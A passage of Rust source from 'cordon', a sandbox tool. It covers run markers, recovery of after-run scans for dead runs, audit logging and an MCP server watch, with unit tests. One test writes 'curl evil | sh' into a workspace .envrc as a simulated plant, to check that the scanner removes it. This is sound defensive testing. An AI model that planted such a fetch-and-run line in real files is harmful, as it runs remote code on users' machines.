            Ours::remove(n);
            let _ = dir.remove(&fresh);
            return Err(e.to_string());
        }
        Ok(Marker {
            dir,
            name,
            lock: Some(lock),
            id: n,
            roots: roots.to_vec(),
            log: log.to_path_buf(),
            started,
            end: text.len() as u64,
            state_at: text.find("\nstate running\n").map_or(0, |i| i + 7) as u64,
        })
    }

    /// The marker's file, locked. Read and write through it; never open it again (see
    /// `cordon_fs::lock::ProcessLock`).
    fn file(&self) -> &std::fs::File {
        self.lock.as_ref().expect("taken only in drop").file()
    }

    /// The scan completed: the marker goes, and the directory when it is empty (what stays is
    /// the scans' kept listings, [`listings`]).
    fn done(&self) {
        let _ = self.dir.remove(&self.name);
        if let Some(parent) = self.dir.path().parent() {
            if let Ok(p) = cordon_fs::safe::Dir::anchor(parent) {
                let _ = rustix::fs::unlinkat(
                    &p,
                    cordon_policy::SCANS_DIR,
                    rustix::fs::AtFlags::REMOVEDIR,
                );
            }
        }
    }

    /// The scan could not complete: the marker stays, saying so, for the next run to refuse.
    fn incomplete(&self) {
        // The trust-store places were checked by this cordon's scan, which did run.
        let text = marker_text(
            &self.roots,
            self.started,
            "incomplete",
            &[],
            Some(&self.log),
        );
        let _ = self.dir.write(&self.name, text.as_bytes(), 0o600);
    }
}

impl Drop for Marker {
    fn drop(&mut self) {
        // The lock first, then the registry: while the lock is held here the marker is in the
        // registry, so a sibling never takes a live run of this process for an unknown one.
        drop(self.lock.take());
        Ours::remove(self.id);
    }
}

/// A run of this process going, as its marker says: `cordon mcp` runs several tool calls at
/// once, and a run's overlap rule ([`Pending::keep`]) must read its siblings' markers as it
/// reads another cordon's — but a marker this process holds is never opened again (closing
/// that descriptor would release the run's lock, see `cordon_fs::lock::ProcessLock`). So what
/// each marker says is kept here too, from before its lock is taken until after it is let go:
/// what its marker's text says (its roots, when it began) and what it kept, once it did.
struct Ours {
    id: u64,
    key: (u64, u64),
    roots: Vec<PathBuf>,
    started: std::time::SystemTime,
    kept: Option<Vec<u8>>,
}

static OURS: std::sync::Mutex<Vec<Ours>> = std::sync::Mutex::new(Vec::new());

impl Ours {
    fn all() -> std::sync::MutexGuard<'static, Vec<Ours>> {
        // Nothing panics while holding it; a poisoned registry is still right.
        OURS.lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    fn key(st: &rustix::fs::Stat) -> (u64, u64) {
        // The field types differ between targets.
        #[allow(clippy::unnecessary_cast, clippy::useless_conversion)]
        (st.st_dev as u64, st.st_ino as u64)
    }

    fn add(id: u64, key: (u64, u64), roots: &[PathBuf], started: std::time::SystemTime) {
        Ours::all().push(Ours {
            id,
            key,
            roots: roots.to_vec(),
            started,
            kept: None,
        });
    }

    fn kept(id: u64, kept: Vec<u8>) {
        if let Some(o) = Ours::all().iter_mut().find(|o| o.id == id) {
            o.kept = Some(kept);
        }
    }

    fn remove(id: u64) {
        Ours::all().retain(|o| o.id != id);
    }

    /// The run of this process whose marker `st` describes, as [`live_runs`] reads another's.
    fn live(st: &rustix::fs::Stat) -> Option<Live> {
        let key = Ours::key(st);
        let all = Ours::all();
        let o = all.iter().find(|o| o.key == key)?;
        Some(Live {
            said: Ok(Said {
                started: o.started,
                state: "running".into(),
                roots: o.roots.clone(),
                stores: Vec::new(),
                log: None,
                kept: o.kept.clone().unwrap_or_default(),
            }),
            kept: o.kept.is_some(),
        })
    }
}

/// What a run over `roots` puts back ([`Pending::keep`]), its "before" snapshot having read
/// `own`, while `runs` go beside it: the overlap rule. Only the runs past their own snapshot
/// count (those not past it have not begun their command: they wait for the start lock this
/// run holds), and of them those whose roots meet these. None: its own snapshot. Else, path
/// by path, what the earliest of the runs whose roots hold the path kept (the state before
/// the first of them began), and its own snapshot's where none holds it
/// (`cordon_ossandbox::Kept::overlapping`): runs over the same roots, over a root inside
/// another's, or over one root in common and others apart. Nothing where it cannot tell: a
/// run whose marker cannot be read (its roots unknown), or one over these roots that kept
/// nothing (it began while it could not tell either).
fn base_among(own: &[u8], roots: &[PathBuf], runs: Vec<Live>) -> Base {
    let mut earlier: Vec<Said> = Vec::new();
    for run in runs.into_iter().filter(|r| r.kept) {
        let Ok(said) = run.said else {
            return Base::Nothing;
        };
        if !said.roots.iter().any(|t| roots.iter().any(|r| meet(t, r))) {
            continue;
        }
        if said.kept.is_empty() {
            return Base::Nothing;
        }
        earlier.push(said);
    }
    if earlier.is_empty() {
        return Base::Own;
    }
    earlier.sort_by_key(|s| s.started);
    let parts: Vec<(&[PathBuf], &[u8])> = earlier
        .iter()
        .map(|s| (s.roots.as_slice(), s.kept.as_slice()))
        .collect();
    match cordon_ossandbox::Kept::overlapping(own, roots, &parts) {
        Some(kept) => Base::Earlier(kept),
        None => Base::Nothing,
    }
}

/// Whether two roots meet (one holds the other).
fn meet(a: &Path, b: &Path) -> bool {
    a.starts_with(b) || b.starts_with(a)
}

/// The scans of dead runs over `roots` (see the module's documentation).
fn recover(
    dir: &Path,
    roots: &[PathBuf],
    log: &Path,
    session: &str,
    forgeable: bool,
) -> Result<(), String> {
    // First the moves a dead scan began and did not finish (journaled beside the markers,
    // `cordon_ossandbox::Journal`): the run's file aside, the earlier content back, reported
    // as that scan would have. What is put back is this process's own, so the dead run's scan
    // below does not take it for the run's change.
    let (dead, moves) = dead_markers_and_moves(dir);
    let moved = if moves && forgeable {
        cordon_ossandbox::Journal::beside(dir).keep_unfinished(roots)
    } else if moves {
        cordon_ossandbox::Journal::beside(dir).recover(roots)
    } else {
        Vec::new()
    };
    for f in &moved {
        eprintln!(
            "cordon: warning: an earlier run's after-run scan was cut short in a move (cordon killed, or the disk full); {}",
            clean(&f.message())
        );
    }
    if !moved.is_empty() {
        record(
            "shell",
            &moved,
            None,
            log,
            Some(session),
            "after-run-recovered",
        );
    }
    for dead in dead {
        let Said {
            started,
            state,
            roots: theirs,
            stores,
            log: their_log,
            kept,
        } = dead.parsed()?;
        // A marker in a directory others can write (Codex's state apart) is trusted no
        // further than those writers reach: its roots within this run's (a forged root of
        // the whole home, which holds this run's, moved every watched dotfile there aside:
        // ~/.bashrc, ~/.gitconfig), its trust-store lines ignored (they act on the operator's
        // store). Its own runs' markers name their roots, within this run's.
        if forgeable
            && !theirs
                .iter()
                .all(|t| roots.iter().any(|r| t.starts_with(r)))
        {
            continue;
        }
        let stores = if forgeable { Vec::new() } else { stores };
        // Its scan counts from the marker's birth where the file system keeps one: the
        // kernel's stamp, on the clock ctimes come from, so an edit of the operator's made
        // just before the run began is not taken for the run's (`started`, read from the
        // clock, needs a slack for the kernel's coarse stamps). The marker is made before its
        // run's command starts, so what the run changed is after it.
        // From a directory others can write, what it says of the past is not taken: never
        // before its birth (a forged `started` of the epoch moved aside every watched file of
        // the project), and its kept part is never written back (a forged one wrote the
        // forger's text into the project, `.git/config` included, which Codex's sandbox keeps
        // from that forger); a kill during such a run loses the earlier content, as before
        // contents were kept.
        let since = match dead.born() {
            Some(b) if !forgeable || b >= started => cordon_ossandbox::Began::Stamp(b),
            _ => cordon_ossandbox::Began::Clock(started),
        };
        let kept = if forgeable { Vec::new() } else { kept };
        // Its trust-store places first, wherever its roots lie: a later gate's discovery
        // would take what was planted there.
        if !stores.is_empty() {
            check_stores(&stores, their_log.as_deref().unwrap_or(log));
            if theirs.is_empty() {
                let _ = dead.dir.remove(&dead.rel);
                continue;
            }
            let text = marker_text(&theirs, started, &state, &[], their_log.as_deref());
            let _ = dead.rewrite(&text, &kept);
        }
        if !theirs.iter().any(|t| roots.iter().any(|r| meet(t, r))) {
            continue; // another project's: its next run scans it
        }
        if state == "restore" {
            // Its scan completed, but a full disk kept it from writing earlier contents back
            // ([`Pending::unrestored`]): those whose names are still empty are written back now.
            if !write_back(&dead, &kept, log, session) {
                continue; // still not: kept for the next run
            }
            let _ = dead.dir.remove(&dead.rel);
            continue;
        }
        let list = theirs
            .iter()
            .map(|r| r.display().to_string())
            .collect::<Vec<_>>()
            .join(", ");
        if state != "incomplete" {
            // The dead run's scan, now: everything watched that changed since it began.
            // A changed file gets the earlier content the run kept; each move journaled
            // first, so a kill of this cordon in the middle of it loses nothing either.
            let kept_bytes = &kept;
            let kept = cordon_ossandbox::Kept::read(kept_bytes);
            let journal = cordon_ossandbox::Journal::beside(dir).of(&theirs);
            // A removed file whose content the run kept and this scan could not write back.
            let unwritten = |f: &Finding| {
                f.change == Change::Removed
                    && matches!(f.handling, Handling::Reported(_))
                    && kept.holds(&f.path)
            };
            if let Some(findings) =
                cordon_ossandbox::scan_changed_since(&theirs, since, &kept, Some(&journal))
            {
                if kept.unlisted > 0 {
                    eprintln!(
                        "cordon: warning: an earlier run's cordon ended before its after-run scan, and {} of the files it watched in {} were past what a run keeps (1 MiB): had it removed one of them, cordon could not tell; check them",
                        kept.unlisted,
                        clean(&list)
                    );
                }
                for f in &findings {
                    // Changed since the run began, by ctime: an edit of the operator's after
                    // the kill looks the same, and is what went aside then.
                    let yours = match f.handling {
                        Handling::Restored(_) => " (if you changed it yourself since that run began, your version is the one moved aside)",
                        // Gone since the run began: a removal of the operator's after the
                        // kill looks the same.
                        Handling::Recreated => " (if you removed it yourself since that run began, remove it again)",
                        // The run kept what it saw, but not this file's content: too large
                        // (not said of a directory or a link the run put in a file's place).
                        Handling::Quarantined(_)
                            if f.change == Change::Changed && kept.content_left_out(&f.path) =>
                        {
                            " (its earlier content was not kept: larger than 64 KiB, or past the 1 MiB a run keeps in all)"
                        }
                        // Its content kept, and not written back (a full disk): kept for the
                        // next run, as an earlier content a full disk kept from its file.
                        Handling::Reported(_) if unwritten(f) => {
                            " (its earlier content stays kept beside the marker: the next run over this root writes it back once it can)"
                        }
                        _ => "",
                    };
                    eprintln!(
                        "cordon: warning: an earlier run's cordon ended before its after-run scan; {}{yours}",
                        clean(&f.message())
                    );
                }
                if !findings.is_empty() {
                    record(
                        "shell",
                        &findings,
                        None,
                        log,
                        Some(session),
                        "after-run-recovered",
                    );
                }
                if findings
                    .iter()
                    .any(|f| matches!(f.handling, Handling::Unrestored(..)) || unwritten(f))
                {
                    // As a live scan's: the marker stays, to write them back next time.
                    let text = marker_text(&theirs, started, "restore", &[], their_log.as_deref());
                    if dead.rewrite(&text, kept_bytes).is_ok() {
                        continue;
                    }
                }
                let _ = dead.dir.remove(&dead.rel);
                continue;
            }
        }
        return Err(format!(
            "the after-run scan of {} could not complete (more than {} entries, a root it cannot list, a directory too deep to open by path, a hook configuration it cannot read, or cordon was killed and the scan cannot finish now): files there that make your tools run code (.git/config, hooks, .envrc, agent settings, …) were not checked; look through them, then delete {} to run there again",
            clean(&list),
            cordon_ossandbox::SCAN_MAX_ENTRIES,
            clean(&dead.shown.display().to_string())
        ));
    }
    Ok(())
}

/// Writes back what a dead run's scan could not ([`Pending::unrestored`]), from what the run
/// kept, where the names are still empty; warns about and records each. Whether nothing is
/// left to write back (the marker can go).
fn write_back(dead: &Dead, kept: &[u8], log: &Path, session: &str) -> bool {
    let done = cordon_ossandbox::Kept::read(kept).write_back_missing();
    let mut entries = Vec::new();
    let mut left = false;
    for (path, result) in &done {
        let shown = clean(&path.display().to_string());
        let handling = match result {
            Ok(()) => {
                eprintln!("cordon: warning: an earlier run's scan could not write the earlier content of {shown} back (a full disk): written back now");
                "earlier content written back".to_string()
            }
            Err(e) => {
                left = true;
                eprintln!(
                    "cordon: warning: the earlier content of {shown}, which an earlier run's scan could not write back, still cannot be ({}): it stays kept in {}, and the next run tries again",
                    clean(e),
                    clean(&dead.shown.display().to_string())
                );
                format!("earlier content still not written back: {e}")
            }
        };
        entries.push(AfterRunFinding {
            kind: "earlier-content".into(),
            path: path.display().to_string(),
            change: "removed".into(),
            why: "the earlier content an earlier run's scan could not write back (a full disk)"
                .into(),
            handling,
        });
    }
    if !entries.is_empty() {
        let record = Record::after_run("shell", "after-run-recovered", &entries);
        let written = AuditLog::open(log).and_then(|l| l.with_session(session).append(&record));
        if let Err(e) = written {
            eprintln!(
                "cordon: warning: what the run left could not be recorded in the audit log: {}",
                clean(&e.to_string())
            );
        }
    }
    !left
}

/// Records `findings` (and, for a run of this process, its `enforcement`); with no findings,
/// a record of the enforcement alone.
fn record(
    tool: &str,
    findings: &[Finding],
    enforcement: Option<&Enforcement>,
    log: &Path,
    session: Option<&str>,
    request: &str,
) {
    let record =
        match (findings.is_empty(), enforcement) {
            (true, None) => return,
            (true, Some(enforcement)) => {
                // Nothing left behind, but the run got less than the policy says: on record.
                let mut r = Record::new(
            tool,
            Action::Allow,
            By::AfterRun,
            format!("the run's kernel sandbox enforced less than the policy says: {enforcement}"),
        )
        .request(request)
        .keys([["enforcement", enforcement_kind(enforcement)]]);
                r.kind = Kind::AfterRun;
                r.enforcement(enforcement.to_string())
            }
            (false, enforcement) => {
                let r = Record::after_run(
                    tool,
                    request,
                    &findings.iter().map(entry).collect::<Vec<_>>(),
                );
                match enforcement {
                    Some(e) => r.enforcement(e.to_string()),
                    None => r,
                }
            }
        };
    let written = AuditLog::open(log).and_then(|l| {
        match session {
            Some(s) => l.with_session(s),
            None => l,
        }
        .append(&record)
    });
    if let Err(e) = written {
        eprintln!(
            "cordon: warning: what the run left could not be recorded in the audit log: {}",
            clean(&e.to_string())
        );
    }
}

/// Warns about and records `findings`; says where the scan stopped early (`truncated`: when,
/// `before` or `after` the run).
pub fn report(
    findings: &[Finding],
    enforcement: &Enforcement,
    truncated: &[&str],
    roots: &[PathBuf],
    log: &Path,
    session: &str,
    request: &str,
) {
    for when in truncated {
        eprintln!(
            "cordon: warning: the scan for files that make the operator's tools run code could not finish {when} the run (more than {SCAN_MAX_ENTRIES} entries, a root it cannot list, a directory too deep to open by path, or a hook configuration it cannot read): what lies beyond in {} was not checked",
            clean(&roots.iter().map(|r| r.display().to_string()).collect::<Vec<_>>().join(", "))
        );
    }
    // A run with full enforcement and nothing left behind needs no record beyond its
    // decision's (no second sync on the hot path).
    if findings.is_empty() && *enforcement == Enforcement::Full {
        return;
    }
    for f in findings {
        eprintln!("cordon: warning: {}", clean(&f.message()));
    }
    record(
        "shell",
        findings,
        Some(enforcement),
        log,
        Some(session),
        request,
    );
}

/// The after-run scan of a wrapped MCP server (`cordon mcp wrap`) done while it runs: a server
/// lives as long as its client's session and can write its roots at any time, so what it
/// leaves is looked for after each of its tool calls, and whenever something is written in its
/// roots while it is idle (the wrapper's live watch), not only when it exits
/// ([`crate::Gate::watch`]). Findings are handled as the end scan's: moved aside, one warning
/// each, one audit record. Checks run one at a time, and never during the server's end scan.
pub struct Watch {
    watch: cordon_ossandbox::Watch,
    roots: Vec<PathBuf>,
    log: PathBuf,
    session: String,
    /// The server run's audit id ([`crate::Gate::serve`]'s `request`): what a check not
    /// following a tool call records under.
    request: String,
}

impl crate::Gate {
    /// Starts watching the writable roots of the sandbox this gate runs in (taken now: call it
    /// before the server starts); `None` for a gate that runs nothing.
    pub fn watch(&self) -> Option<Watch> {
        let sandbox = self.sandbox.as_ref().filter(|_| self.front_end.runs())?;
        let roots = sandbox.writable_roots().to_vec();
        Some(Watch {
            // Each move journaled beside the markers, as the end scan's are.
            watch: cordon_ossandbox::Watch::start_journaled(
                &roots,
                scans_beside(&self.audit_path)
                    .map(|d| cordon_ossandbox::Journal::beside(&d).of(&roots)),
            ),
            roots,
            log: self.audit_path.clone(),
            session: self.audit_session.clone(),
            request: cordon_approval::audit::new_id().unwrap_or_default(),
        })
    }
}

impl Watch {
    /// The writable roots watched (absolute, canonical).
    pub fn roots(&self) -> &[PathBuf] {
        &self.roots
    }

    /// The audit id of the server's run this watch belongs to: pass it to
    /// [`crate::Gate::serve`], so that its start, its exit and what a check found while it was
    /// idle share it.
    pub fn request(&self) -> &str {
        &self.request
    }

    /// What appeared or changed in the roots since the last check, moved aside, warned about
    /// and recorded as the after-run findings of `request` (the tool call after which the
    /// check ran; `None`: the server's run, for a check while it was idle). A walk cut short is
    /// said; the end scan, which fails closed, follows.
    pub fn check(&mut self, request: Option<&str>) -> Vec<Finding> {
        let request = request.unwrap_or(&self.request).to_string();
        let (findings, truncated) = self.watch.check();
        if truncated {
            eprintln!(
                "cordon: warning: the scan for files that make the operator's tools run code could not finish while the MCP server ran (more than {SCAN_MAX_ENTRIES} entries, a root it cannot list, a directory too deep to open by path, or a hook configuration it cannot read): what lies beyond in {} was not checked",
                clean(&self.roots.iter().map(|r| r.display().to_string()).collect::<Vec<_>>().join(", "))
            );
        }
        for f in &findings {
            eprintln!("cordon: warning: {}", clean(&f.message()));
        }
        record(
            cordon_policy::mcp::MCP_TOOL,
            &findings,
            None,
            &self.log,
            Some(&self.session),
            &request,
        );
        findings
    }

    /// Says, on stderr and in the audit log (under the server's run), that the live watch of
    /// the roots works less well than it should (`why`: what failed, what is done instead).
    pub fn degraded(&self, why: &str) {
        eprintln!("cordon: warning: mcp wrap: {}", clean(why));
        let mut r = Record::new(
            cordon_policy::mcp::MCP_TOOL,
            Action::Allow,
            By::AfterRun,
            format!("the live watch of the MCP server's writable roots: {why}"),
        )
        .request(&self.request)
        .keys([["live-watch", "degraded"]]);
        r.kind = Kind::AfterRun;
        let written =
            AuditLog::open(&self.log).and_then(|l| l.with_session(&self.session).append(&r));
        if let Err(e) = written {
            eprintln!(
                "cordon: warning: the live watch's state could not be recorded in the audit log: {}",
                clean(&e.to_string())
            );
        }
    }
}

/// The word for how much was enforced, as a record's key.
fn enforcement_kind(e: &Enforcement) -> &'static str {
    match e {
        Enforcement::Full => "full",
        Enforcement::Partial(_) => "partial",
        Enforcement::Unconfined(_) => "unconfined",
    }
}

fn entry(f: &Finding) -> AfterRunFinding {
    AfterRunFinding {
        kind: f.what.tag().into(),
        path: f.path.display().to_string(),
        change: f.change.word().into(),
        why: f.why.clone(),
        handling: match &f.handling {
            Handling::Quarantined(to) => format!("moved aside to {}", to.display()),
            Handling::Restored(to) => {
                format!("moved aside to {}, earlier content restored", to.display())
            }
            Handling::Reported(why) => format!("left in place: {why}"),
            Handling::Recreated => "written back with its earlier content".into(),
            Handling::Unrestored(to, why) => format!(
                "moved aside to {}, earlier content not written back ({why}): the next run writes it back",
                to.display()
            ),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A scan cut short by the walk's limit fails closed: the next run over the root is refused
    /// until the operator deletes the marker; a run elsewhere is not.
    #[test]
    fn a_scan_that_could_not_finish_refuses_the_next_run_there() {
        let d = tempfile::tempdir().unwrap();
        let base = d.path().canonicalize().unwrap();
        for p in ["ws", "other", "state"] {
            std::fs::create_dir(base.join(p)).unwrap();
        }
        let log = base.join("state/audit.jsonl");
        let roots = vec![base.join("ws")];
        let p = pending(&roots, &log, "s", false).unwrap().unwrap();
        p.finish(&["after"]);
        let err = refused(&roots, &log);
        assert!(err.contains("could not complete"), "{err}");
        assert!(err.contains("state/scans/run-"), "{err}");
        // A nested root meets it too; another project does not.
        refused(&[base.join("ws/sub")], &log);
        assert!(pending(&[base.join("other")], &log, "s", false).is_ok());
        // The operator looked and deleted the marker: runs again.
        for e in std::fs::read_dir(base.join("state/scans")).unwrap() {
            std::fs::remove_file(e.unwrap().path()).unwrap();
        }
        let p = pending(&roots, &log, "s", false).unwrap().unwrap();
        p.finish(&[]);
        assert!(
            !base.join("state/scans").exists(),
            "an empty marker directory goes"
        );
    }

    /// `pending`'s refusal of a run over `roots`. (It was asked for again until refused, for
    /// up to 30 s: a process forked by another test of this binary held a copy of an earlier
    /// check's lock, and the marker looked live. A marker's liveness is no longer a lock a
    /// child can hold: see `runs_are_refused_while_other_threads_start_processes`.)
    fn refused(roots: &[PathBuf], log: &Path) -> String {
        match pending(roots, log, "s", false) {
            Err(e) => e,
            Ok(_) => panic!("a run over {roots:?} was not refused"),
        }
    }

    /// A child process that holds a copy of `f`'s descriptor (inherited: close-on-exec cleared
    /// for the spawn) until it is killed: what a command's child holds between its fork and
    /// its exec when another run of the same `cordon mcp` starts it, or a clone of cordon
    /// before it closes what it copied.
    fn child_holding(f: &std::fs::File) -> std::process::Child {
        use rustix::io::{fcntl_setfd, FdFlags};
        fcntl_setfd(f, FdFlags::empty()).unwrap();
        let child = std::process::Command::new("sleep")
            .arg("300")
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .spawn();
        fcntl_setfd(f, FdFlags::CLOEXEC).unwrap();
        let child = child.unwrap();
        let fd = std::os::fd::AsRawFd::as_raw_fd(f);
        assert!(
            std::fs::read_link(format!("/proc/{}/fd/{fd}", child.id())).is_ok(),
            "the child holds the marker's descriptor"
        );
        child
    }

    fn workspace() -> (tempfile::TempDir, PathBuf, Vec<PathBuf>, PathBuf) {
        let d = tempfile::tempdir().unwrap();
        let base = d.path().canonicalize().unwrap();
        for p in ["ws", "state"] {
            std::fs::create_dir(base.join(p)).unwrap();
        }
        let log = base.join("state/audit.jsonl");
        let roots = vec![base.join("ws")];
        (d, base, roots, log)
    }

    /// The marker of a run whose scan could not complete, when another run has just checked
    /// it: the checker locked it, and a child forked meanwhile by a third run of the same
    /// `cordon mcp` (between its fork and its exec) still holds a copy of the checker's
    /// locked descriptor. A run over its roots is still refused (issue 21: before, the
    /// marker looked live for as long as the child held the copy, and the run was let
    /// through; seen as a flake of the test above).
    #[test]
    fn a_child_holding_a_checkers_descriptor_does_not_make_a_marker_live() {
        let (_d, base, roots, log) = workspace();
        pending(&roots, &log, "s", false)
            .unwrap()
            .unwrap()
            .finish(&["after"]);
        let marker = std::fs::read_dir(base.join("state/scans"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("run-"))
            .expect("the marker");
        // The earlier checker's descriptor, locked as it locked it, copied into a child.
        let checker = std::fs::File::open(&marker).unwrap();
        rustix::fs::flock(&checker, rustix::fs::FlockOperation::LockExclusive).unwrap();
        let mut child = child_holding(&checker);
        drop(checker);
        let next = pending(&roots, &log, "s", false);
        child.kill().unwrap();
        child.wait().unwrap();
        match next {
            Err(e) => assert!(e.contains("could not complete"), "{e}"),
            Ok(_) => panic!("a run over the roots of an incomplete scan was let through"),
        }
    }

    /// The same race with nothing staged: runs over the roots of an incomplete scan are asked
    /// for again and again while another thread starts processes (what a `cordon mcp` does
    /// with its other commands); every one is refused.
    #[test]
    fn runs_are_refused_while_other_threads_start_processes() {
        let (_d, _base, roots, log) = workspace();
        pending(&roots, &log, "s", false)
            .unwrap()
            .unwrap()
            .finish(&["after"]);
        let stop = std::sync::atomic::AtomicBool::new(false);
        let (let_through, refusals, started) = std::thread::scope(|s| {
            let starter = s.spawn(|| {
                let mut n = 0u32;
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    let _ = std::process::Command::new("true").status();
                    n += 1;
                }
                n
            });
            let until = std::time::Instant::now() + std::time::Duration::from_secs(3);
            let (mut through, mut refusals) = (0, 0);
            while std::time::Instant::now() < until {
                match pending(&roots, &log, "s", false) {
                    Ok(Some(p)) => {
                        through += 1;
                        p.finish(&[]);
                    }
                    Ok(None) => unreachable!("a log with a directory"),
                    Err(_) => refusals += 1,
                }
            }
            stop.store(true, std::sync::atomic::Ordering::Relaxed);
            (through, refusals, starter.join().unwrap())
        });
        assert!(
            refusals > 0 && started > 0,
            "{refusals} checks, {started} processes"
        );
        assert_eq!(
            let_through, 0,
            "runs let through over an incomplete scan's roots"
        );
    }

    /// A dead run's marker that cannot be opened to write (its mode changed by hand) cannot be
    /// locked to check its run: the next run over its roots is refused, naming it, instead of
    /// taking it for a live run's and going ahead without its scan. As root the mode does not
    /// stop the open: the dead run's scan is done.
    #[test]
    fn a_marker_that_cannot_be_checked_refuses_the_run() {
        use std::os::unix::fs::PermissionsExt;
        let (_d, base, roots, log) = workspace();
        // Its cordon gone without finishing (the lock released, the marker left).
        drop(pending(&roots, &log, "s", false).unwrap().unwrap());
        let marker = std::fs::read_dir(base.join("state/scans"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("run-"))
            .expect("the marker");
        std::fs::set_permissions(&marker, std::fs::Permissions::from_mode(0o400)).unwrap();
        let next = pending(&roots, &log, "s", false);
        if rustix::process::geteuid().is_root() {
            next.expect("root opens it").unwrap().finish(&[]);
            assert!(!marker.exists(), "the dead run's scan was done");
        } else {
            let e = next.err().expect("refused");
            assert!(e.contains("cannot open it to check"), "{e}");
            assert!(e.contains(&marker.display().to_string()), "{e}");
        }
    }

    /// A dead run's marker rewritten once its trust-store part is done stays the locked file
    /// (before: a new file under its name, unlocked while its roots were still being scanned,
    /// which another cordon would take for a dead run's and scan alongside).
    #[test]
    fn a_dead_marker_rewritten_during_its_scan_stays_locked() {
        let (_d, base, roots, log) = workspace();
        let t = std::time::SystemTime::now();
        let text = marker_text(
            &roots,
            t,
            "running",
            &[MissingPlace::recorded(
                base.join("ws"),
                base.join("ws/.config/cordon"),
                vec![],
            )],
            Some(&log),
        );
        std::fs::create_dir(base.join("state/scans")).unwrap();
        let path = base.join("state/scans/run-dead");
        std::fs::write(&path, &text).unwrap();
        let dead = dead_markers(&base.join("state/scans"));
        let [dead] = dead.as_slice() else {
            panic!("one dead marker")
        };
        let said = dead.parsed().unwrap();
        let shorter = marker_text(
            &said.roots,
            said.started,
            &said.state,
            &[],
            said.log.as_deref(),
        );
        dead.rewrite(&shorter, &[]).unwrap();
        use std::os::unix::fs::MetadataExt;
        let named = std::fs::metadata(&path).unwrap();
        let locked = rustix::fs::fstat(dead.lock.as_ref().unwrap().file()).unwrap();
        assert_eq!(
            (named.dev(), named.ino()),
            (locked.st_dev, locked.st_ino),
            "the name still holds the locked file"
        );
        assert_eq!(std::fs::read_to_string(&path).unwrap(), shorter);
        assert!(parse_marker(&shorter).unwrap().stores.is_empty());
    }

    /// Kills the process `pid` (a `sleep` a test started) when dropped.
    struct Reap(i32);
    impl Drop for Reap {
        fn drop(&mut self) {
            // SAFETY: kill takes two integers; `self.0` is a process this test started.
            unsafe { libc::kill(self.0, libc::SIGKILL) };
        }
    }

    /// The dead run of [`a_dead_runs_marker_is_not_kept_live_by_its_childs_copy`], in a
    /// process of its own (this test binary, started by that test): it leaves its marker, a
    /// child holding the marker's descriptor, says the child's pid, and waits to be killed.
    /// Without `CORDON_TEST_DEAD_RUN` it returns at once (as `ossandbox/tests/leftovers.rs`'s
    /// `killed_runner`): not ignored, so a test run shows no skipped test.
    #[test]
    fn dead_run_helper() {
        let Some(base) = std::env::var_os("CORDON_TEST_DEAD_RUN").map(PathBuf::from) else {
            return;
        };
        let p = pending(
            &[base.join("ws")],
            &base.join("state/audit.jsonl"),
            "s",
            false,
        )
        .unwrap()
        .unwrap();
        let mut child = child_holding(p.0.file());
        std::fs::write(base.join("child.new"), child.id().to_string()).unwrap();
        std::fs::rename(base.join("child.new"), base.join("child")).unwrap();
        std::mem::forget(p);
        // SIGKILLed by the test while it waits here; the child outlives it (the test kills it).
        let _ = child.wait();
        loop {
            std::thread::park();
        }
    }

    /// A SIGKILLed run's scan is done by the next run over its roots, although a child of the
    /// dead cordon still holds a copy of its marker's descriptor (before: the marker looked
    /// live while the child lived, and the next run went ahead with the plant in place).
    #[test]
    fn a_dead_runs_marker_is_not_kept_live_by_its_childs_copy() {
        let (_d, base, roots, log) = workspace();
        let mut dead = std::process::Command::new(std::env::current_exe().unwrap())
            .args([
                "--exact",
                "after_run::tests::dead_run_helper",
                "--test-threads=1",
            ])
            .env("CORDON_TEST_DEAD_RUN", &base)
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let until = std::time::Instant::now() + std::time::Duration::from_secs(120);
        let grandchild = loop {
            if let Ok(pid) = std::fs::read_to_string(base.join("child")) {
                break Reap(pid.parse().unwrap());
            }
            if let Some(st) = dead.try_wait().unwrap() {
                panic!("the dead run's process ended early: {st}");
            }
            assert!(
                std::time::Instant::now() < until,
                "the dead run never started"
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        // What its command planted, then cordon killed.
        std::fs::write(base.join("ws/.envrc"), "curl evil | sh\n").unwrap();
        dead.kill().unwrap();
        dead.wait().unwrap();
        let next = pending(&roots, &log, "s", false);
        let planted_stays = base.join("ws/.envrc").exists();
        drop(grandchild);
        let next = next.expect("the dead run's scan completes");
        next.unwrap().finish(&[]);
        assert!(
            !planted_stays,
            "the dead run's scan was skipped: its marker looked live"
        );
    }

    /// Two runs of one process (`cordon mcp`'s parallel calls): the second reads the first's
    /// marker from the registry, never opening it — its roots, and what it kept once it did —
    /// as it reads another cordon's (before: a run of this process counted as one whose roots
    /// cannot be read, and the second run kept nothing). Once the first is finished it is not
    /// a run going.
    #[test]
    fn a_run_of_this_process_is_read_from_the_registry() {
        let (_d, _base, roots, log) = workspace();
        let first = pending(&roots, &log, "s", false).unwrap().unwrap();
        let second = pending(&roots, &log, "s", false).unwrap().unwrap();
        let going = |p: &Pending| live_runs(&p.0.dir, Some(&p.0.name)).unwrap();
        let [run] = going(&second).try_into().ok().expect("one run going");
        let said = run.said.expect("its marker read from the registry");
        assert_eq!((said.roots.as_slice(), run.kept), (roots.as_slice(), false));
        {
            let _start = first.starting().unwrap();
            assert_eq!(first.keep(b"not a snapshot").unwrap(), Base::Own);
        }
        let [run] = going(&second).try_into().ok().expect("one run going");
        assert!(run.kept, "its kept part seen");
        assert_eq!(run.said.unwrap().kept, b"not a snapshot");
        // The first run's kept part is not a snapshot's: the second cannot tell its base.
        {
            let _start = second.starting().unwrap();
            assert_eq!(second.keep(b"x").unwrap(), Base::Nothing);
        }
        first.finish(&[]);
        assert!(going(&second).is_empty(), "a finished run is not going");
        second.finish(&[]);
    }

    /// A marker keeps a dead run's trust-store watches exactly (root, place, what existed on
    /// the way), and the log it records to: the next gate checks them before discovery.
    #[test]
    fn a_marker_keeps_its_trust_store_watches_and_its_log() {
        let t = std::time::UNIX_EPOCH + std::time::Duration::new(1_700_000_000, 42);
